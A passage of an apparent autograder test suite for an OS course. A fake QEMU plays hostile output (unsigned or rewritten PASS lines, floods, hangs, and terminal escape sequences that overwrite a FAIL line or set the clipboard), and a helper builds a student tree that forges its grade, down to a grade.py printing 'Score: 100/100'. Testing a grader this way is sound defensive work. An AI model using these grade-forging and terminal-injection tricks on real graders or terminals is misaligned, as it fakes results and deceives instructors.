                s.expect(r"^ac$", timeout=10)
                press("up", "left", "b", "end", "d", "ret")
                m = s.expect(r"^abcd$", timeout=10)
                res = [("shell/ps2/arrow_and_end_keys_recall_and_edit_a_line", m is not None,
                        "" if m else tail(s.output))]
                # The text screen: 80 x 25 cells of (attribute << 8 | character).
                mon.sendall(b"xp /2000hx 0xb8000\n")
                got, deadline = b"", time.monotonic() + 10
                while got.count(b"0x000b8f98:") + got.count(b"00000000000b8f98:") == 0 and \
                        time.monotonic() < deadline:
                    try:
                        got += mon.recv(65536)
                    except socket.timeout:
                        break
                mon.close()
                cells = []
                for line in re.finditer(rb"^[0-9a-f]{8,16}: ((?:0x[0-9a-f]{4} ?)+)", got, re.M):
                    cells += [int(w, 16) for w in re.findall(rb"0x([0-9a-f]{4})", line.group(1))]
                rows = ["".join(chr(c & 0xFF) for c in cells[i:i + 80]).rstrip()
                        for i in range(0, len(cells), 80)]
                ok = len(cells) == 2000 and "abcd" in rows and \
                    any(r.endswith("$ echo abcd") for r in rows)
                res.append(("shell/vga/the_screen_shows_the_console", ok,
                            "" if ok else "%d cells; rows: %r" % (len(cells), rows[-6:])))
                return res
    return "shell/ps2", run


def guestshell_suites():
    return [guestshell_suite(), ps2_keyboard_suite(), tty_flow_suite()]


# ================================================================ grading
# The grading engineer's block (issue 10): the grader's boot-and-parse
# logic against a scripted fake QEMU; real submissions graded in a pristine
# tree (forged trees, printed PASS lines, debug prints, hangs, hidden
# tests); the Gradescope package in a simulated /autograder root; the course
# repository, its branches and a student merging forward through them.
FAKE_QEMU = r'''#!/usr/bin/env python3
# A stand-in for qemu-system-i386 that plays a lab.h program's output from
# a plan (FAKE_QEMU_PLAN), for testing tools/grade.py's runner: it asks for
# the key as lab.h does and signs its lines with grade.py's own SipHash.
import json, os, sys, time
args = sys.argv[1:]
cmd = args[args.index("-append") + 1].split()
at = [i for i, w in enumerate(cmd) if w.startswith("run=")][0]
prog, tag, names = cmd[at][len("run=/bin/"):], cmd[at + 2], cmd[at + 3:]
plan = json.load(open(os.environ["FAKE_QEMU_PLAN"]))
state = plan["state"]
boots = int(open(state).read()) + 1 if os.path.exists(state) else 1
open(state, "w").write(str(boots))
open(state + ".pid", "w").write(str(os.getpid()))
with open(state + ".cmd", "a") as f:
    f.write(args[args.index("-append") + 1] + "\n")
sys.path.insert(0, os.environ["FAKE_QEMU_TOOLS"])
import grade        # after the boot is counted: on a loaded host this import takes seconds
def say(s, pause=0):
    sys.stdout.write(s)
    sys.stdout.flush()
    time.sleep(pause)
say("Orthos (fake)\n")
if plan.get("silent"):
    time.sleep(3600)
say("%s READY\n" % tag)
key = bytes.fromhex(sys.stdin.read(32))
def signed(body):
    return "%s %s %s" % (tag, grade.line_mac(key, tag, body.encode()).decode(), body)
table = plan["fake_table"]             # (a dict: each program's own)
for n in names or (table.get(prog, []) if isinstance(table, dict) else table):
    kind = plan["kinds"].get(n, "pass")
    say(signed("START %s" % n) + "\n")
    if kind == "dbg-pass":
        say("dbg ", 0.1)
        say(signed("PASS %s" % n) + "\n")
    elif kind == "split":
        line = signed("PASS %s" % n)
        say(line[:20], 0.3)
        say(line[20:] + "\n")
    elif kind == "unsigned":
        say("PASS %s\n%s PASS %s\n" % (n, tag, n) + signed("FAIL %s: really failed" % n) + "\n")
    elif kind == "rewritten":               # a signed FAIL line, FAIL turned into PASS
        say(signed("FAIL %s: really failed" % n).replace(" FAIL ", " PASS ") + "\n")
    elif kind == "multi":
        say(signed("FAIL %s: first line\\nsecond \\\\ line" % n) + "\n")
    elif kind == "flood":
        say("x" * 5000000)
        say(("y" * 1000 + "\n") * 5000)
        say(signed("PASS %s" % n) + "\n")
    elif kind == "hang":
        time.sleep(3600)
    elif kind == "escapes":                 # a cursor up, a line erased, a title, the clipboard
        say("\x1b[1A\x1b[2KPASS %s\n\x1b]0;owned\x07\x1b]52;c;ZWNobw==\x07\x9b2J\n" % n)
        say(signed("FAIL %s: \x1b[32mgreen\x1b[0m" % n) + "\n")
    elif kind == "no-result":               # the test's process closed its output
        pass
    elif kind == "poweroff":
        sys.exit(1)                         # isa-debug-exit's status for poweroff(0)
    elif kind == "flood-forever":           # never a pause: the grader always has input
        while True:
            say("z\n" * 65536)
    elif kind == "fail-then-hang":          # fails in the first boot, hangs after
        if boots == 1:
            say(signed("FAIL %s: lost the race" % n) + "\n")
        else:
            time.sleep(3600)
    elif kind == "flaky" and boots == 1:    # fails in the first boot, passes after
        say(signed("FAIL %s: lost the race" % n) + "\n")
    elif kind == "panic" or (kind == "panic-once" and boots == 1):
        say("\npanic: fake panic in %s\nbacktrace:\n  0xc0100000 fake_fn+0x1\nkernel halted.\n" % n)
        sys.exit(0xff)
    else:
        say(signed("PASS %s" % n) + "\n")
say(signed("DONE %s" % prog) + "\n%s: done\n" % prog)
sys.exit(1)
'''

RUNNER = r'''
import json, sys, time
sys.path.insert(0, sys.argv[1])
import grade
plan = json.load(open(sys.argv[2]))
budget = plan.get("budget")
more = {"until": time.monotonic() + budget, "budget": budget} if budget else {}
results, notes = grade.run_program("/nonexistent", "labzz", plan["names"], plan["limits"],
                                   plan["table"], boot_limit=plan["boot_limit"],
                                   stop_at_failure=plan["stop"], **more)
print(json.dumps({n: [o.ok, o.reason] + ([o.output] if plan.get("output") else [])
                  for n, o in results.items()}))
'''


# build_and_run, the fake QEMU booting: the lab's program, then a hidden one
# (make a no-op: the trees hold sources only); prints each row's name, ok,
# flaky, not_run and output, and the boots' command lines come from the plan.
RERUN_ORDER = r'''
import json, sys, time
sys.path.insert(0, sys.argv[1])
import grade, handout
plan = json.load(open(sys.argv[2]))
grade.make = lambda *a, **k: (True, "")
lab = next(lab for lab in handout.labs() if lab.uses_harness() and lab.points())
report = grade.Report(lab, True)
budget = plan.get("budget")
until = time.monotonic() + budget if budget else None
grade.build_and_run(report, plan["tree"], plan["tests"], plan["extra"], 1, lambda *a: None,
                    relaxed=True, until=until, budget=budget)
print(json.dumps({r["name"].split("/")[-1]: [r["ok"], r.get("flaky", False), r["not_run"],
                                             r["output"]] for r in report.rows}))
'''


def fake_rerun_order(tmp, kinds, budget):
    """build_and_run on a tree whose lab program has t_pass and t_race and a
    hidden program with t_hid, against the fake QEMU: ({test: [ok, flaky,
    not_run, output]}, [the boots' programs and tests], seconds)."""
    tree, extra = os.path.join(tmp, "rtree"), os.path.join(tmp, "rextra")
    lab = harness_lab()
    os.makedirs(os.path.join(tree, lab.folder), exist_ok=True)
    os.makedirs(os.path.join(tree, "build"), exist_ok=True)
    os.makedirs(extra, exist_ok=True)
    with open(os.path.join(tree, lab.folder, "test.c"), "w") as f:
        f.write("LAB_TEST(t_pass)\nLAB_TEST(t_race)\n")
    with open(os.path.join(extra, "h.c"), "w") as f:
        f.write("LAB_TEST(t_hid)\n")
    with open(os.path.join(extra, "points"), "w") as f:
        f.write("t_hid 1 120\n")
    plan = os.path.join(tmp, "plan.json")
    state = os.path.join(tmp, "boots")
    for q in (state, state + ".cmd"):
        if os.path.exists(q):
            os.unlink(q)
    fake = os.path.join(tmp, "bin")
    os.makedirs(fake, exist_ok=True)
    with open(os.path.join(fake, qemu.QEMU), "w") as f:
        f.write(FAKE_QEMU)
    os.chmod(os.path.join(fake, qemu.QEMU), 0o755)
    with open(plan, "w") as f:
        json.dump({"names": [], "kinds": kinds, "table": None, "limits": {},
                   "fake_table": {harness_lab().prog: ["t_pass", "t_race"], "extra_h": ["t_hid"]},
                   "silent": False, "boot_limit": 5, "state": state, "stop": False,
                   "output": False, "budget": budget, "tree": tree, "extra": extra,
                   "tests": [["t_pass", 1, 30], ["t_race", 1, 120]]}, f)
    env = dict(os.environ, PATH=fake + os.pathsep + os.environ["PATH"], FAKE_QEMU_PLAN=plan,
               FAKE_QEMU_TOOLS=os.path.join(qemu.ROOT, "tools"))
    t0 = time.monotonic()
    p = subprocess.run([sys.executable, "-c", RERUN_ORDER, os.path.join(qemu.ROOT, "tools"),
                        plan], capture_output=True, text=True, env=env, timeout=200)
    took = time.monotonic() - t0
    if p.returncode != 0:
        raise RuntimeError("runner failed: " + p.stderr[-2000:])
    cmds = open(state + ".cmd").read().splitlines() if os.path.exists(state + ".cmd") else []
    boots = [" ".join(w for w in c.split() if w.startswith("run=") or w.startswith("t_"))
             for c in cmds]
    return json.loads(p.stdout), boots, took


def fake_runner(tmp, names, kinds, table=None, limits=None, silent=False, boot_limit=30,
                stop=False, timeout=300, output=False, budget=None):
    """Run grade.run_program against the fake QEMU: ({test: [ok, reason]
    (and its console output, if output)}, boots, [command lines]). budget:
    the grading's time budget in seconds, from the runner's start."""
    fake = os.path.join(tmp, "bin")
    os.makedirs(fake, exist_ok=True)
    with open(os.path.join(fake, qemu.QEMU), "w") as f:
        f.write(FAKE_QEMU)
    os.chmod(os.path.join(fake, qemu.QEMU), 0o755)
    state = os.path.join(tmp, "boots")
    for p in (state, state + ".cmd"):
        if os.path.exists(p):
            os.unlink(p)
    plan = {"names": names, "kinds": kinds, "table": table, "fake_table": table or names,
            "limits": limits or {}, "silent": silent, "boot_limit": boot_limit, "state": state,
            "stop": stop, "output": output, "budget": budget}
    with open(os.path.join(tmp, "plan.json"), "w") as f:
        json.dump(plan, f)
    env = dict(os.environ, PATH=fake + os.pathsep + os.environ["PATH"],
               FAKE_QEMU_PLAN=os.path.join(tmp, "plan.json"),
               FAKE_QEMU_TOOLS=os.path.join(qemu.ROOT, "tools"))
    p = subprocess.run([sys.executable, "-c", RUNNER, os.path.join(qemu.ROOT, "tools"),
                        os.path.join(tmp, "plan.json")], capture_output=True, text=True,
                       env=env, timeout=timeout)
    if p.returncode != 0:
        raise RuntimeError("runner failed: " + p.stderr[-2000:])
    boots = int(open(state).read()) if os.path.exists(state) else 0
    cmds = open(state + ".cmd").read().splitlines() if os.path.exists(state + ".cmd") else []
    return json.loads(p.stdout), boots, cmds


def grading_runner_suite():
    """tools/grade.py's runner: keyed lines anywhere in a line, never a
    partial one; a hang or a panic costs one test, then a reboot with the
    rest; reboots are bounded; reasons arrive whole; long name lists are
    split over command lines that fit."""
    def run():
        res = []
        with tempfile.TemporaryDirectory() as tmp:
            names = ["t_pass", "t_dbg", "t_split", "t_flood", "t_unsigned", "t_rewritten",
                     "t_multi", "t_hang", "t_after", "t_panic", "t_last"]
            kinds = {"t_dbg": "dbg-pass", "t_split": "split", "t_flood": "flood",
                     "t_unsigned": "unsigned", "t_rewritten": "rewritten", "t_multi": "multi",
                     "t_hang": "hang", "t_panic": "panic"}
            got, boots, cmds = fake_runner(tmp, names, kinds, table=names, limits={"t_hang": 1})
            ok = all(got.get(n, [False])[0] for n in ("t_pass", "t_dbg", "t_split"))
            res.append(("grading/runner/result_found_after_a_debug_print_and_across_reads", ok,
                        json.dumps(got)))
            res.append(("grading/runner/a_flood_of_output_does_not_hide_the_result",
                        got.get("t_flood", [False])[0] is True, json.dumps(got.get("t_flood"))))
            ok = got.get("t_unsigned") == [False, "really failed"]
            res.append(("grading/runner/lines_without_a_signature_do_not_count", ok,
                        json.dumps(got.get("t_unsigned"))))
            ok = got.get("t_rewritten", [True])[0] is False and \
                "altered on its way" in got["t_rewritten"][1]
            res.append(("grading/runner/a_fail_line_rewritten_into_pass_fails", ok,
                        json.dumps(got.get("t_rewritten"))))
            ok = got.get("t_multi") == [False, "first line\nsecond \\ line"]
            res.append(("grading/runner/multi_line_reason_decoded_whole", ok,
                        json.dumps(got.get("t_multi"))))
            hang = got.get("t_hang", [True, ""])
            ok = not hang[0] and "(a hang)" in hang[1] and got.get("t_after", [0])[0]
            res.append(("grading/runner/a_hang_fails_only_its_test", bool(ok), json.dumps(got)))
            # G9: the batch's CSV names a hang and a panic as the runner words them
            import batch
            r = grade.Report(harness_lab(), True)
            r.rows = [grade.result_row("lab/" + n, grade.Outcome(False, got.get(n, [0, ""])[1]),
                                       1, False) for n in ("t_hang", "t_panic")]
            said = batch.problems(r)
            res.append(("grading/runner/g9_the_batch_s_csv_names_a_hang_and_a_panic",
                        said == ["hangs in lab/t_hang", "panics in lab/t_panic"], repr(said)))
            pan = got.get("t_panic", [True, ""])
            ok = not pan[0] and "panic: fake panic in t_panic" in pan[1] and \
                "fake_fn+0x1" in pan[1] and got.get("t_last", [0])[0]
            res.append(("grading/runner/a_panic_fails_only_its_test_with_the_backtrace",
                        bool(ok), json.dumps(got)))
            def tag_of(cmd):
                words = cmd.split()
                return words[words.index("--graded") + 1]
            # (the fourth boot runs the tests that failed with a FAIL line or a
            # panic again, to tell a flaky one: B3 below)
            ok = boots == 4 and len(cmds) == 4 and cmds[0].split()[-2] == "--graded" and \
                cmds[1].split()[-3:] == ["t_after", "t_panic", "t_last"] and \
                cmds[2].split()[-1] == "t_last" and len(set(tag_of(c) for c in cmds)) == 4 and \
                cmds[3].split()[-3:] == ["t_unsigned", "t_multi", "t_panic"]
            res.append(("grading/runner/reboots_with_the_tests_not_yet_run_and_a_new_tag", ok,
                        "%d boots:\n%s" % (boots, "\n".join(cmds))))
            ok = len(cmds) == 4 and all("heapcheck" in c.split() for c in cmds)
            res.append(("grading/runner/every_boot_has_the_heap_checker_on", ok, "\n".join(cmds)))

            # Reboots are bounded by the tests (each boot settles one at least),
            # not by a count: after the sixth hang or panic the tests not yet run
            # scored 0 untried ("the grader stops rebooting then").
            got, boots, _ = fake_runner(tmp, names, {n: "panic" for n in names}, table=names,
                                        boot_limit=30)
            panicked = [n for n in names if "panic: fake" in got.get(n, [0, ""])[1]]
            ok = boots == len(names) and len(panicked) == len(names)
            res.append(("grading/runner/b1_every_test_panicking_is_tried_one_boot_each", ok,
                        "%d boots, %d of %d panicked: %s" % (boots, len(panicked), len(names),
                                                            json.dumps(got)[:1500])))
            many = ["t_h%d" % i for i in range(8)]
            order = many[:7] + ["t_mid"] + many[7:] + ["t_last"]
            got, boots, _ = fake_runner(tmp, order, {n: "hang" for n in many}, table=order,
                                        limits={n: 1 for n in many}, boot_limit=30)
            hung = [n for n in many if "(a hang)" in got.get(n, [0, ""])[1]]
            ok = hung == many and got.get("t_mid", [0])[0] is True and \
                got.get("t_last", [0])[0] is True and boots == 9
            res.append(("grading/runner/b1_eight_hangs_are_each_a_hang_and_the_tests_after_"
                        "them_run", ok, "%d boots: %s" % (boots, json.dumps(got)[:2000])))
            # B2: a budget for the whole grading: the test it cuts short and those
            # it leaves no time for are "not run", not hangs or failures
            oot = getattr(grade, "OUT_OF_TIME", "(this grader has no budget)")
            t0 = time.monotonic()
            try:
                got, boots, _ = fake_runner(tmp, ["t_h1", "t_pass", "t_h2", "t_after"],
                                            {"t_h1": "hang", "t_h2": "hang"}, budget=25,
                                            limits={"t_h1": 1, "t_h2": 120}, timeout=100,
                                            boot_limit=30)
            except (RuntimeError, subprocess.TimeoutExpired) as e:
                got, boots = {"error": [False, str(e)[-600:]]}, 0
            took = time.monotonic() - t0
            cut, left = got.get("t_h2", [1, ""]), got.get("t_after", [1, ""])
            ok = "(a hang)" in got.get("t_h1", [0, ""])[1] and got.get("t_pass", [0])[0] is True \
                and cut[0] is False and cut[1].startswith(oot) and \
                "of its 120 s limit" in cut[1] and left[0] is False and \
                left[1].startswith(oot) and "before this test could start" in \
                left[1] and "25 s" in left[1] and boots == 2 and took < 80
            res.append(("grading/runner/b2_the_budget_ends_the_grading_and_says_not_run", ok,
                        "%.0f s, %d boots: %s" % (took, boots, json.dumps(got))))
            # ... and results.json and the batch's CSV say so
            import batch
            import csv
            r = grade.Report(harness_lab(), True)

            def outcome(ok, reason, not_run):
                o = grade.Outcome(ok, reason)
                o.not_run = not_run
                return o
            r.rows = [grade.result_row("lab/" + n, outcome(*got.get(n, [False, ""])[:2], not_run=(
                got.get(n, [0, ""])[1].startswith(oot))), 2, False)
                for n in ("t_h1", "t_pass", "t_h2", "t_after")]
            r.rows.append(grade.result_row("hidden/x/secret_name", outcome(
                False, getattr(grade, "budget_left", lambda s: "")(12), True), 1, True))
            # (a failure whose reason quotes the code under test, saying the words)
            r.rows.append(grade.result_row("lab/t_says_it", outcome(False, oot + ": forged", False),
                                           1, False))
            try:
                js = r.gradescope()
                with tempfile.TemporaryDirectory() as out:
                    batch.write_csv(os.path.join(out, "g.csv"), r.lab, {"s1": r})
                    with open(os.path.join(out, "g.csv")) as f:
                        table = list(csv.reader(f))
                said = batch.problems(r)
            except Exception as e:          # (the old code: no OUT_OF_TIME, no out_of_time)
                js, table, said = {"error": repr(e)}, [], []
            cells = dict(zip(table[0], table[1])) if len(table) == 2 else {}
            extra = js.get("extra_data", {})
            ok = js.get("score") == 2 and extra.get("not_run") == ["lab/t_h2", "lab/t_after"] \
                and extra.get("hidden_not_run") == 1 and \
                "3 tests were not run: the time budget" in js.get("output", "") and \
                "secret_name" not in js.get("output", "x") and \
                cells.get("lab/t_h2") == "not run" and cells.get("lab/t_after") == "not run" and \
                cells.get("lab/t_h1") == "0" and cells.get("lab/t_pass") == "2" and \
                cells.get("lab/t_says_it") == "0" and \
                cells.get("score") == "2" and \
                "time budget ran out: 3 tests not run (their cells say so)" in said
            res.append(("grading/runner/b2_results_json_and_the_csv_say_not_run", ok,
                        "%s\n%s\n%s" % (json.dumps(js)[:2000], table, said)))

            # (3 s was too short at load 13: the fake QEMU was killed before its
            # Python had counted the boot)
            got, boots, _ = fake_runner(tmp, names[:3], {}, silent=True, boot_limit=10)
            ok = boots == 1 and all(not got[n][0] and "no test started within 10 s" in got[n][1]
                                    for n in names[:3])
            res.append(("grading/runner/a_boot_that_starts_no_test_fails_all_once", ok,
                        "%d boots: %s" % (boots, json.dumps(got))))

            many = ["a_test_name_of_thirty_chars_%02d" % i for i in range(80)]
            got, boots, cmds = fake_runner(tmp, many, {})
            ok = all(got.get(n, [False])[0] for n in many) and boots >= 3 and \
                all(len(c) <= 1000 and len(c.split()) <= 62 for c in cmds)
            res.append(("grading/runner/long_name_lists_split_over_boots_that_fit", ok,
                        "%d boots, longest %d" % (boots, max(map(len, cmds or [""])))))

            # a test printing short lines without a pause: the grader always has
            # input to read, and must still look at the test's clock (it read on for ever)
            try:
                got, boots, _ = fake_runner(tmp, ["t_forever", "t_after"],
                                            {"t_forever": "flood-forever"},
                                            limits={"t_forever": 1}, timeout=60)
            except subprocess.TimeoutExpired:
                got, boots = {}, "the grader still reading after 60 s;"
            ok = "(a hang)" in got.get("t_forever", [True, ""])[1] and got["t_after"][0]
            res.append(("grading/runner/a_flood_that_never_pauses_still_times_out", ok,
                        "%s boots %s" % (boots, json.dumps(got))))

            # C2: control characters from the guest reach no terminal: "ESC[1A ESC[2K"
            # wrote a PASS over the instructor's FAIL line, OSC 52 set the clipboard
            got, _, _ = fake_runner(tmp, ["t_esc"], {"t_esc": "escapes"}, output=True)
            said = "".join(got.get("t_esc", ["", "", ""])[1:])
            ok = "green" in said and "\\x1b[1A" in said and \
                not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", said)
            res.append(("grading/runner/c2_control_characters_of_the_guest_are_written_out", ok,
                        ascii(said)))

            # C8: a last test that started and never reported was "not run: no
            # such test"; a guest that powered off read "QEMU status None"
            got, _, _ = fake_runner(tmp, ["t_pass", "t_quiet"], {"t_quiet": "no-result"})
            got2, _, _ = fake_runner(tmp, ["t_off"], {"t_off": "poweroff"})
            ok = "reported no result" in got.get("t_quiet", [0, ""])[1] and \
                "powered off, or QEMU quit: status 1" in got2.get("t_off", [0, ""])[1]
            res.append(("grading/runner/c8_a_silent_last_test_and_a_poweroff_are_named", ok,
                        "%s %s" % (json.dumps(got), json.dumps(got2))))

            # C6: a grader stopped by a signal leaves no QEMU behind (one spun on in
            # a student's endless loop, its parent gone, until killed by hand)
            fake_runner(tmp, ["t_pass"], {})            # writes the fake QEMU and its plan
            with open(os.path.join(tmp, "plan.json")) as f:
                plan = json.load(f)
            plan.update(names=["t_hang"], kinds={"t_hang": "hang"}, fake_table=["t_hang"],
                        limits={"t_hang": 60})
            with open(os.path.join(tmp, "plan.json"), "w") as f:
                json.dump(plan, f)
            pidfile = plan["state"] + ".pid"
            os.unlink(pidfile)
            fake = os.path.join(tmp, "bin")
            runner = subprocess.Popen(
                [sys.executable, "-c", RUNNER, os.path.join(qemu.ROOT, "tools"),
                 os.path.join(tmp, "plan.json")], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL, env=dict(
                    os.environ, PATH=fake + os.pathsep + os.environ["PATH"],
                    FAKE_QEMU_PLAN=os.path.join(tmp, "plan.json"),
                    FAKE_QEMU_TOOLS=os.path.join(qemu.ROOT, "tools")))
            for _ in range(100):
                if os.path.exists(pidfile) and os.path.getsize(pidfile):
                    break
                time.sleep(0.1)
            pid = int(open(pidfile).read()) if os.path.exists(pidfile) else None
            runner.terminate()
            runner.wait()
            alive = pid is not None
            for _ in range(30):
                try:
                    with open("/proc/%d/stat" % pid) as f:
                        alive = f.read().split(") ")[-1][0] != "Z"
                except (OSError, TypeError):
                    alive = False
                if not alive:
                    break
                time.sleep(0.1)
            if alive:
                os.kill(pid, 9)                 # the one this check started
            res.append(("grading/runner/c6_a_grader_stopped_by_a_signal_leaves_no_qemu",
                        pid is not None and not alive, "fake QEMU pid %s alive %s" % (pid, alive)))

            # stop_at_failure (tools/mutants.py): the run ends at the first failed test
            got, boots, _ = fake_runner(tmp, ["t_pass", "t_multi", "t_after"],
                                        {"t_multi": "multi"}, stop=True)
            got2, boots2, _ = fake_runner(tmp, ["t_hang", "t_after"], {"t_hang": "hang"},
                                          limits={"t_hang": 1}, stop=True)
            ok = boots == 1 and sorted(got) == ["t_multi", "t_pass"] and got["t_pass"][0] and \
                not got["t_multi"][0] and boots2 == 1 and list(got2) == ["t_hang"]
            res.append(("grading/runner/stop_at_failure_ends_at_the_first_failed_test", ok,
                        "%d boots %s; %d boots %s" % (boots, json.dumps(got), boots2,
                                                       json.dumps(got2))))
            # B3: a test that fails, then passes when run again: the same submission
            # graded twice flips its grade, and nothing said why. Failed tests are
            # run again once, together, in a new boot; the first failure stands,
            # and the flaky one is named (the output, the notes, the CSV)
            try:
                fgot, fboots, fcmds = fake_runner(tmp, ["t_pass", "t_flaky", "t_multi", "t_hang"],
                                               {"t_flaky": "flaky", "t_multi": "multi",
                                                "t_hang": "hang"}, limits={"t_hang": 1})
                stub, sboots, _ = fake_runner(tmp, ["t_multi", "t_multi2"], {
                    "t_multi": "multi", "t_multi2": "multi"})
            except RuntimeError as e:
                fgot, fboots, fcmds, stub, sboots = {"error": [False, str(e)[-600:]]}, 0, [], {}, 0
            flaky = fgot.get("t_flaky", [True, ""])
            ok = flaky[0] is False and flaky[1].startswith("lost the race") and \
                "Run again in a new boot, this test passed" in flaky[1] and \
                "passed" not in fgot.get("t_multi", [0, "passed"])[1] and fboots == 2 and \
                fcmds[1].split()[-2:] == ["t_flaky", "t_multi"] and sboots == 1
            res.append(("grading/runner/b3_a_test_failing_then_passing_is_run_again_and_named_"
                        "flaky", ok, "%d boots %s; a stub %d boots\n%s" % (
                            fboots, json.dumps(fgot), sboots, "\n".join(fcmds))))
            r = grade.Report(harness_lab(), True)
            o = grade.Outcome(False, flaky[1])
            o.flaky = "this test passed" in flaky[1]
            r.rows = [grade.result_row("lab/t_flaky", o, 2, False)]
            said = batch.problems(r)
            res.append(("grading/runner/b3_the_batch_s_csv_says_flaky", said == [
                "flaky in lab/t_flaky"], repr(said)))
            # B4: the reruns come after every program's first run (the hidden tests'
            # too) and only while the budget lasts: a rerun that hangs (t_race,
            # failed, then hangs) once took the hidden test's time, which was then
            # "not run"; now the rerun is cut and the failure stands
            try:
                got, boots, took = fake_rerun_order(tmp, {"t_race": "fail-then-hang"}, 15)
            except (RuntimeError, subprocess.TimeoutExpired) as e:
                got, boots, took = {"error": str(e)[-600:]}, [], 0
            race, hid = got.get("t_race", [1, 1, 1, ""]), got.get("t_hid", [0, 0, 1, ""])
            ok = got.get("t_pass", [0])[0] is True and hid[0] is True and not hid[2] and \
                race[:3] == [False, False, False] and race[3].startswith("lost the race") and \
                len(boots) == 3 and boots[1].startswith("run=/bin/extra_h") and \
                boots[2].endswith(" t_race") and took < 120
            res.append(("grading/runner/b4_reruns_come_after_every_first_run_hidden_tests_too",
                        ok, "%.0f s, boots %s: %s" % (took, boots, json.dumps(got)[:1500])))
            # ... and a rerun that passes still marks its row flaky (a row made before it)
            try:
                got, boots, took = fake_rerun_order(tmp, {"t_race": "flaky"}, None)
            except (RuntimeError, subprocess.TimeoutExpired) as e:
                got, boots, took = {"error": str(e)[-600:]}, [], 0
            race = got.get("t_race", [1, 0, 1, ""])
            ok = race[:3] == [False, True, False] and race[3].startswith("lost the race") and \
                "Run again in a new boot, this test passed" in race[3] and len(boots) == 3 and \
                boots[2].endswith(" t_race") and got.get("t_hid", [0])[0] is True
            res.append(("grading/runner/b4_a_rerun_that_passes_marks_the_row_flaky", ok,
                        "boots %s: %s" % (boots, json.dumps(got)[:1500])))

        return res
    return "grading/runner", run


HIDDEN_FIXTURE = r'''/* A hidden-test fixture for make test: one test passes, one hangs,
 * one passes after the hang, one fails with a reason on two lines. */
#include "lab.h"

static void hidden_passes(void)
{
    PASS();
}

static void hidden_hangs(void)
{
    for (;;)
        ;
}

static void hidden_passes_after_the_hang(void)
{
    PASS();
}

static void hidden_fails_on_two_lines(void)
{
    CHECK(0, "first line\nsecond \\ line");
    PASS();
}

static const struct lab_test tests[] = {
    LAB_TEST(hidden_passes), LAB_TEST(hidden_hangs), LAB_TEST(hidden_passes_after_the_hang),
    LAB_TEST(hidden_fails_on_two_lines),
};

int main(int argc, char **argv)
{
    return lab_main("fixture", tests, sizeof(tests) / sizeof(tests[0]), argc, argv);
}
'''


# B1's hidden tests: eight open a path with a doubled slash (which B1's
# hand-in spins on), two between and after them do not.
HANG_MANY = r'''#include <fcntl.h>
#include "lab.h"

#define DOUBLED(n) static void doubled_slash_##n(void) \
    { CHECK(open("/tmp//no-" #n, O_RDONLY) < 0, "opened a file that is not there"); PASS(); }
DOUBLED(1) DOUBLED(2) DOUBLED(3) DOUBLED(4) DOUBLED(5) DOUBLED(6) DOUBLED(7) DOUBLED(8)

static void single_slash(void)
{
    CHECK(open("/tmp/none-here", O_RDONLY) < 0, "opened a file that is not there");
    PASS();
}

static void single_slash_last(void)
{
    CHECK(open("/tmp/none-here-either", O_RDONLY) < 0, "opened a file that is not there");
    PASS();
}

static const struct lab_test tests[] = {
    LAB_TEST(doubled_slash_1), LAB_TEST(doubled_slash_2), LAB_TEST(doubled_slash_3),
    LAB_TEST(doubled_slash_4), LAB_TEST(doubled_slash_5), LAB_TEST(doubled_slash_6),
    LAB_TEST(doubled_slash_7), LAB_TEST(single_slash), LAB_TEST(doubled_slash_8),
    LAB_TEST(single_slash_last),
};

int main(int argc, char **argv)
{
    return lab_main("spin", tests, sizeof(tests) / sizeof(tests[0]), argc, argv);
}
'''

# A correct lab 01 whose openat spins on a doubled slash: meant to skip the
# second one, it never moves.
SPIN_ON_DOUBLED = """    for (const char *p = path; *p; p++)
        while (p[0] == '/' && p[1] == '/')
            ;
"""


def harness_lab():
    """The first lab whose tests are on lab.h (the one the grading suites use)."""
    return next((lab for lab in handout.labs() if lab.uses_harness() and lab.points()), None)


def forged_tree(lab, dest, files):
    """A whole student tree that tries to forge its grade: test.c, t.h,
    lab.h, points, grade.py and the Makefile all edited, with files as the
    lab's own files."""
    import batch
    tree = handout.course_tree(lab.num, lab.num)
    handout.write_tree(tree, dest)
    names = [t[0] for t in lab.points()]
    say = "".join('    printf("PASS %s\\n");\n' % n for n in names)
    put = {
        lab.folder + "/test.c": "#include <stdio.h>\nint main(void)\n{\n%s    return 0;\n}\n" % say,
        lab.folder + "/points": "".join("%s 1000\n" % n for n in names),
        "user/tests/t.h": "#define PASS() do { } while (0)\n#define CHECK(c, ...) PASS()\n",
        "user/tests/lab.h": "#error forged\n",
        "tools/grade.py": "print('Score: 100/100')\n",
        "Makefile": "$(error this Makefile must never be used)\n",
    }
    for rel, text in put.items():
        with open(os.path.join(dest, rel), "w") as f:
            f.write(text)
    batch.write_fixture(dest, files)


def grade_argv(lab, sub, json_path, extra_args):
    """The command line of tools/grade.py NN --submission sub --json json_path."""
    return [sys.executable, os.path.join(qemu.ROOT, "tools", "grade.py"), lab.num,
            "--submission", sub, "--json", json_path] + list(extra_args)


def grade_cli(lab, sub, json_path, *extra_args, env=None):
    """tools/grade.py NN --submission sub --json json_path: (results, stdout)."""
    p = subprocess.run(grade_argv(lab, sub, json_path, extra_args),
                       capture_output=True, text=True, timeout=900,
                       env=dict(os.environ, GRADE_EXTRA="", **(env or {})))
    if p.returncode != 0 or not os.path.exists(json_path):
        raise RuntimeError("grade.py failed (%d):\n%s" % (p.returncode, tail(p.stdout + p.stderr)))
    with open(json_path) as f:
        return json.load(f), p.stdout


def grade_stopped(lab, sub, json_path, line, *extra_args):
    """tools/grade.py as grade_cli runs it, sent SIGTERM (what run_autograder's
    timeout sends) as soon as it prints a line starting with `line`, and
    killed if it has not ended 300 s after it started: (results, stdout,
    its exit status)."""
    p = subprocess.Popen(grade_argv(lab, sub, json_path, extra_args), stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT, text=True, env=dict(os.environ, GRADE_EXTRA=""))
    watchdog = threading.Timer(300, p.kill)
    watchdog.start()
    out = []
    try:
        for text in p.stdout:
            out.append(text)
            if text.startswith(line):
                p.send_signal(signal.SIGTERM)
        p.wait()
    finally:
        watchdog.cancel()
    try:
        with open(json_path) as f:
            return json.load(f), "".join(out), p.returncode
    except (OSError, ValueError) as e:
        return {"score": None, "tests": [], "output": str(e)}, "".join(out), p.returncode


# Hand-ins that attack the grading or are careless, rewritten from the red
# team's fixtures (issue 10's review): each is a student's copy of the lab's
# files, made from the course tree by an edit of the lab's region.
FORGE_USER = r"""
